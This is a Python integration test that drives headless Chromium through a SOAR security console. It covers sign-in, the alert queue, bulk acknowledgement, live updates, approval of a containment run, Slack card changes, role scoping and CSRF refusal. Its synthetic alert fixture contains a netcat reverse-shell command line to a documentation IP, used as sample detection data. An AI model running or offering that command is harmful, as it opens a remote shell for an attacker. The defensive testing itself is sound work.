"""The console in a real browser: Debian's Chromium driven by Selenium through Debian's chromium-driver, against
``soar api``'s app served by uvicorn on the real stack (the engine's tasks eager, the Slack stand-in).

One on-call shift: sign in, filter the queue, bulk-acknowledge, watch a new alert arrive live, approve a
containment that then runs, see the Slack card change; a viewer, a scoped approver, a form without its CSRF
token. Every page is screenshotted under ``test-artifacts/console/``.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.conftest import REPO_ROOT
from tests.integration.api.conftest import Api, _api
from tests.integration.api.lab_content import TOKENS, auth
from tests.integration.api.test_report_page_chromium import _chromium, _serve_api
from tests.integration.notify.standin import Workspace, health
from tests.services import require

SHOTS = REPO_ROOT / "test-artifacts" / "console"
WAIT = 30  # seconds a page may take to show what the test waits for (a ceiling, not a measured time)


def _driver_path() -> str:
    def find() -> str:
        path = shutil.which("chromedriver")
        if path is None:
            raise RuntimeError(
                "chromedriver is not installed (run scripts/ensure_chromium.sh: Debian's chromium-driver)"
            )
        return path

    return require("chromium-driver", find)


@pytest.fixture
def workspace() -> Workspace:
    require("Slack stand-in", health)
    return Workspace(["soc-alerts", "soc-critical"])


@pytest.fixture
def slack_api(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, workspace: Workspace) -> Iterator[Api]:
    env = {
        "SOAR_SLACK_BOT_TOKEN": workspace.token,
        "SOAR_SLACK_API_URL": workspace.api_url,
        "SOAR_SLACK_CHANNEL_INTERVAL": "0",
        "SOAR_NOTIFY_ROUTES_FILE": str(tmp_path / "notify.yml"),  # absent: every card goes to #soc-alerts
    }
    with _api(tmp_path, monkeypatch, env) as app:
        yield app


class Browser:
    """One Chromium session (its own cookies) on the served console."""

    def __init__(self, base: str, profile: Path, width: int = 1280, height: int = 1000, phone: bool = False) -> None:
        from selenium import webdriver
        from selenium.webdriver.chrome.service import Service

        options = webdriver.ChromeOptions()
        options.binary_location = _chromium()
        for arg in ("--headless=new", "--no-sandbox", "--disable-gpu", "--hide-scrollbars", "--no-first-run"):
            options.add_argument(arg)
        options.add_argument(f"--user-data-dir={profile}")
        options.add_argument(f"--window-size={width},{height}")
        if phone:  # a phone's viewport (a desktop window cannot be made narrower than about 500 px)
            metrics = {"width": width, "height": height, "pixelRatio": 2.0}
            options.add_experimental_option("mobileEmulation", {"deviceMetrics": metrics})
        self.driver: Any = webdriver.Chrome(service=Service(_driver_path()), options=options)
        self.base = base

    def open(self, path: str) -> None:
        self.driver.get(self.base + path)

    def css(self, selector: str) -> Any:
        return self.driver.find_element("css selector", selector)

    def all(self, selector: str) -> list[Any]:
        return list(self.driver.find_elements("css selector", selector))

    def wait(self, condition: Any) -> Any:
        from selenium.webdriver.support.ui import WebDriverWait

        return WebDriverWait(self.driver, WAIT).until(condition)

    def shot(self, name: str) -> Path:
        SHOTS.mkdir(parents=True, exist_ok=True)
        path = SHOTS / f"{name}.png"
        self.driver.save_screenshot(str(path))
        assert path.stat().st_size > 5_000, f"{name}: a blank screenshot"
        return path

    def sign_in(self, role: str) -> None:
        self.open("/console/alerts")  # no session: the sign-in page, which returns here
        self.css("input[name=token]").send_keys(TOKENS[role])
        self.css("#signin").click()
        self.wait(lambda d: d.current_url.endswith("/console/alerts"))

    def post_forms(self) -> list[str]:
        return [f.get_attribute("action") for f in self.all("form[method=post]")]

    def session(self) -> dict[str, str]:
        cookie = self.driver.get_cookie("soar_session")
        assert cookie and cookie["httpOnly"] and cookie["sameSite"] == "Strict", cookie
        return {"soar_session": cookie["value"]}

    def fits(self) -> bool:
        """Nothing wider than the window (ids and tokens wrap; wide tables scroll inside their box)."""
        return bool(self.driver.execute_script("return document.documentElement.scrollWidth <= window.innerWidth"))

    def quit(self) -> None:
        self.driver.quit()


def _ingest(api: Api, alert_id: str, host: str, rule: str = "lab-rule-9", level: str = "high") -> str:
    alert = {
        "id": alert_id,
        "rule": {"id": rule, "title": f"Lab {rule} on {host}", "level": level},
        "first_event_time": "2026-11-28T09:58:00Z",
        "host": {"name": host},
        "user": {"name": "bob"},
        "source": {"ip": "203.0.113.9"},
        "events": [{"host": {"name": host}, "process": {"command_line": "nc -e /bin/sh 203.0.113.9 4444"}}],
    }
    created = api.client.post("/ingest/alerts", json=alert, headers=auth("admin"))
    assert created.status_code == 201, created.text
    return str(created.json()["id"])


def _card_of(workspace: Workspace, alert_id: str) -> dict[str, Any]:
    import json

    cards = [m for m in workspace.top_level() if alert_id in json.dumps(m)]
    assert cards, f"no Slack card names {alert_id}"
    return cards[0]


@pytest.mark.timeout(300)
def test_an_on_call_shift_in_chromium(slack_api: Api, workspace: Workspace, tmp_path: Path) -> None:
    import json

    api = slack_api
    web1 = [_ingest(api, f"queue-web1-{i}", "web1") for i in range(3)]
    web2 = _ingest(api, "queue-web2", "web2", level="medium")
    staging = _ingest(api, "queue-stage1", "stage1")
    contained = _ingest(api, "contain-web1", "web1", rule="lab-rule-1", level="critical")
    run_id = api.client.get("/runs", params={"alert_id": contained}, headers=auth("admin")).json()[0]["id"]
    card_before = _card_of(workspace, contained)

    with _serve_api(api) as base:
        browser = Browser(base, tmp_path / "alice")
        try:
            # -- sign in as alice: an approver scoped to env=prod (web1, web2; not stage1)
            browser.open("/console/login")
            browser.shot("signin")
            browser.sign_in("approver")
            queue = browser.css("table.queue").text
            assert all(a in queue for a in [*web1, web2, contained]) and staging not in queue
            assert browser.fits()
            browser.shot("queue")

            # -- filter by host (the form puts the filter in the URL), then bulk-acknowledge two alerts
            browser.css("input[name=host]").send_keys("web1")
            browser.css("#apply").click()
            browser.wait(lambda d: "host=web1" in d.current_url)
            rows = [r.get_attribute("data-id") for r in browser.all("tr.alert")]
            assert set(rows) == {*web1, contained}
            for alert_id in web1[:2]:
                browser.css(f"input[type=checkbox][value='{alert_id}']").click()
            browser.css("#bulk-submit").click()
            browser.wait(lambda d: d.find_elements("css selector", "#done"))
            assert "2 alert(s) changed" in browser.css("#done").text
            assert "host=web1" in browser.driver.current_url  # back to the same filtered queue
            for alert_id in web1[:2]:
                shown = api.client.get(f"/alerts/{alert_id}", headers=auth("viewer")).json()
                assert shown["status"] == "acknowledged" and shown["acknowledged_by"] == "alice"

            # -- live: a new alert appears in the open queue without a reload (server-sent events + console.js)
            browser.open("/console/alerts?status=open")
            browser.wait(lambda d: d.find_element("css selector", "#live").is_displayed())
            marker = browser.driver.execute_script("return window.performance.timeOrigin")
            fresh = _ingest(api, "queue-web1-live", "web1")
            browser.wait(lambda d: d.find_elements("css selector", f"tr.alert[data-id='{fresh}']"))
            assert browser.driver.execute_script("return window.performance.timeOrigin") == marker  # no reload

            # -- the alert: its event with the entity; the run waiting for approval
            browser.open(f"/console/alerts/{contained}")
            assert "nc -e /bin/sh" in browser.css("table.event").text
            browser.shot("alert")

            # -- approvals waiting for me: approve the containment with a reason; the run goes on and contains
            browser.open("/console/approvals")
            browser.shot("approvals")
            section = browser.css("section.approval")
            assert run_id in section.text
            section.find_element("css selector", "input[name=reason]").send_keys("confirmed reverse shell")
            section.find_element("css selector", "button.approve").click()
            browser.wait(lambda d: f"/console/runs/{run_id}" in d.current_url)
            run = api.client.get(f"/runs/{run_id}", headers=auth("admin")).json()
            assert run["status"] == "succeeded", run["status"]
            assert run["steps"]["isolate"]["status"] == "succeeded"
            status = browser.css("#run-status").text
            assert "succeeded" in status
            page = browser.driver.page_source
            assert "isolated web1" in page and "verified" in page
            browser.shot("run")
            entries = api.client.get("/audit/entries", headers=auth("admin")).json()
            reason = [e for e in entries if e["action"] == "approval.reason"]
            assert reason and reason[-1]["actor"] == "alice" and "confirmed reverse shell" in json.dumps(reason[-1])

            # -- the Slack card of the alert changed to the run's outcome; its thread names alice's approval
            card_after = _card_of(workspace, contained)
            assert "succeeded" in card_after["text"] and "succeeded" not in card_before["text"]
            assert workspace.calls("chat.update"), "the card was never updated"
            thread = json.dumps(workspace.replies(card_after["ts"]))
            assert "alice" in thread, thread[:2000]

            # -- the scoped approver cannot open what is outside her hosts (the same answer as unknown)
            browser.open("/console/alerts/queue-stage1")
            assert "404" in browser.css("h1").text
            browser.shot("not-found-outside-scope")

            # -- a form whose CSRF token was taken out is refused
            browser.open("/console/alerts")
            browser.driver.execute_script("document.querySelector('#bulk input[name=csrf]').remove()")
            browser.css(f"input[type=checkbox][value='{web2}']").click()
            browser.css("#bulk-submit").click()
            browser.wait(lambda d: d.find_elements("css selector", "#message"))
            assert "CSRF" in browser.css("#message").text and "403" in browser.css("h1").text
            browser.shot("csrf-refused")
            assert api.client.get(f"/alerts/{web2}", headers=auth("viewer")).json()["status"] == "open"
        finally:
            browser.quit()

        admin = Browser(base, tmp_path / "root")
        try:  # every other page, as an unscoped admin; readable at 800 px
            admin.sign_in("admin")
            incident = api.client.get("/incidents", headers=auth("admin")).json()[0]["id"]
            for name, path in (
                ("incident", f"/console/incidents/{incident}"),
                ("incidents", "/console/incidents"),
                ("runs", "/console/runs"),
                ("rules", "/console/rules"),
                ("coverage", "/console/rules/coverage"),
                ("metrics", "/console/metrics"),
                ("audit", "/console/audit"),
                ("run-report", f"/console/runs/{run_id}/report"),
            ):
                admin.open(path)
                assert admin.css("h1").text, name
                if name == "audit":
                    assert "The chain verifies" in admin.css("#verify").text
                admin.shot(name)
            admin.driver.set_window_size(800, 1000)
            for name, path in (
                ("queue-800px", "/console/alerts"),
                ("run-800px", f"/console/runs/{run_id}"),
                ("run-report-800px", f"/console/runs/{run_id}/report"),
            ):
                admin.open(path)
                assert admin.fits(), f"{name}: wider than 800 px"
                admin.shot(name)
        finally:
            admin.quit()

        phone = Browser(base, tmp_path / "phone", width=390, height=844, phone=True)
        try:
            phone.sign_in("admin")
            for name, path in (("queue-phone", "/console/alerts"), ("alert-phone", f"/console/alerts/{contained}")):
                phone.open(path)
                assert phone.driver.execute_script("return window.innerWidth") == 390
                assert phone.fits(), f"{name}: wider than a phone"
                phone.shot(name)
        finally:
            phone.quit()

        viewer = Browser(base, tmp_path / "vera")
        try:  # -- a viewer sees no action, and posting anyway (with its own valid session and token) is 403
            viewer.sign_in("viewer")
            for path in (
                "/console/alerts",
                f"/console/alerts/{contained}",
                f"/console/runs/{run_id}",
                "/console/approvals",
            ):
                viewer.open(path)
                assert viewer.post_forms() == [f"{base}/console/logout"], path
            viewer.shot("viewer-run")
            csrf = viewer.css("form[action$='/console/logout'] input[name=csrf]").get_attribute("value")
            cookies = viewer.session()
            with httpx.Client(base_url=base, cookies=cookies) as client:
                for path, data in (
                    ("/console/alerts/bulk", {"id": web2, "action": "close"}),
                    (f"/console/runs/{run_id}/rollback", {"reason": "no"}),
                ):
                    refused = client.post(path, data={**data, "csrf": csrf})
                    assert refused.status_code == 403 and "lacks" in refused.text, path
        finally:
            viewer.quit()
    assert api.client.get(f"/alerts/{web2}", headers=auth("viewer")).json()["status"] == "open"
    assert api.client.get(f"/runs/{run_id}", headers=auth("admin")).json()["phase"] != "rollback"
